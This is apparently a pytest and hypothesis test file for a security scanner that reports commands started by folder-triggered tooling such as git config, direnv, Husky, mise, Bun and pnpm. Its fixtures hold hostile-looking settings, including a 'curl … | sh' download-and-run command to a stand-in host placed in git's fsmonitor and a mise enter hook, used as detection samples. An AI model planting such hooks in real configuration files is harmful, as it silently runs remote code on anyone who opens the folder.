"""Settings of tools that start something because somebody works in a folder."""

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from lazaretto.core.facts import Facts, Kind
from lazaretto.core.language import NoUnits
from lazaretto.languages import tooling
from tests.languages.test_inner import read

GIT = b"""[core]
	fsmonitor = "curl https://drop.example.invalid/x | sh"
	hooksPath = .hooks
	pager = less
[filter "pad"] clean = ./pad.sh
[alias]
	st = status
	x = !whoami
[url "https://drop.example.invalid/"]
	insteadOf = https://git.example.invalid/
[credential]
	helper =
"""
MISE = b"""[hooks]
enter = "curl https://drop.example.invalid/x | sh"
leave = [{script = "id"}]
[env]
_.source = "a.sh"
"""
BUN = b'preload = ["./pad.js"]\n[install]\nregistry = "https://r.example.invalid/"\n[test]\npreload = "./t.js"\n'
PNPM = (
    b"packages:\n  - a\ndangerouslyAllowAllBuilds: true\nscriptShell: './x.sh'\nregistry: https://r.example.invalid/\n"
)


def told(facts: Facts, kind: Kind = Kind.AGENT_CONFIG) -> list[tuple[str | None, str]]:
    """Return what is told, and how."""
    return [(fact.value, fact.via) for fact in facts.facts if fact.kind is kind]


@pytest.mark.parametrize(
    ("path", "dialect"),
    [
        (".git/config", "gitconfig"),
        ("a/.gitmodules", "gitconfig"),
        ("config", None),
        (".husky/pre-commit", "githook"),
        (".git/hooks/post-checkout", "githook"),
        (".husky/a.md", None),
        (".envrc", "direnv"),
        ("pnpm-workspace.yaml", "pnpmworkspace"),
    ],
)
def test_claims_by_name(path: str, dialect: str | None) -> None:
    """Only names that something looks for are claimed."""
    claim = tooling.claim(path, b"x")

    assert (claim and claim.dialect) == dialect


def test_git() -> None:
    """Commands that git starts, folders of hooks and exchanged addresses are told; other settings are not."""
    facts = read(".git/config", GIT)

    assert told(facts) == [
        ("core.fsmonitor: curl https://drop.example.invalid/x | sh", "command"),
        ("core.hookspath: .hooks", "gitconfig"),
        ("core.pager: less", "command"),
        ("filter.clean: ./pad.sh", "command"),
        ("alias.x: whoami", "command"),
    ]
    assert ("https://drop.example.invalid/", "gitconfig>insteadof") in told(facts, Kind.LITERAL_URL)
    assert [fact.span.line for fact in facts.facts if fact.kind is Kind.NET_CONNECT] == [2]


def test_scripts_of_a_folder() -> None:
    """What a shell runs because of the folder is read as a shell's."""
    for path in (".envrc", ".husky/pre-commit"):
        assert "whoami" in [value for value, _ in told(read(path, b"export A=1\nwhoami\n"), Kind.PROCESS_SPAWN)]


def test_runtimes_and_package_managers() -> None:
    """Hooks, preloaded files and switches are told at their places."""
    assert [value for value, _ in told(read("mise.toml", MISE))] == [
        "hooks.enter: curl https://drop.example.invalid/x | sh",
        "hooks.leave: id",
    ]
    assert told(read("mise.toml", MISE), Kind.IMPORT)[0] == ("./a.sh", "mise")
    assert told(read("bunfig.toml", BUN)) == [("preload: ./pad.js", "bunfig"), ("preload: ./t.js", "bunfig")]
    assert told(read("bunfig.toml", BUN), Kind.LITERAL_URL) == [("https://r.example.invalid/", "bunfig")]
    assert told(read("pnpm-workspace.yaml", PNPM)) == [
        ("dangerouslyAllowAllBuilds: true", "switch"),
        ("scriptShell: ./x.sh", "command"),
    ]


@settings(max_examples=200)
@given(
    data=st.binary(max_size=200)
    | st.tuples(st.sampled_from([GIT, MISE, BUN, PNPM]), st.integers(0, 250), st.binary(max_size=5)).map(
        lambda parts: parts[0][: parts[1]] + parts[2] + parts[0][parts[1] :]
    )
)
def test_any_settings(data: bytes) -> None:
    """Any bytes are read in every dialect, the same way twice, at places inside the file."""
    for dialect in tooling.DIALECTS:
        facts = tooling.read(dialect, data, NoUnits())
        assert facts == tooling.read(dialect, data, NoUnits())
        assert all(0 <= fact.span.start <= fact.span.end <= len(data) for fact in facts.facts)
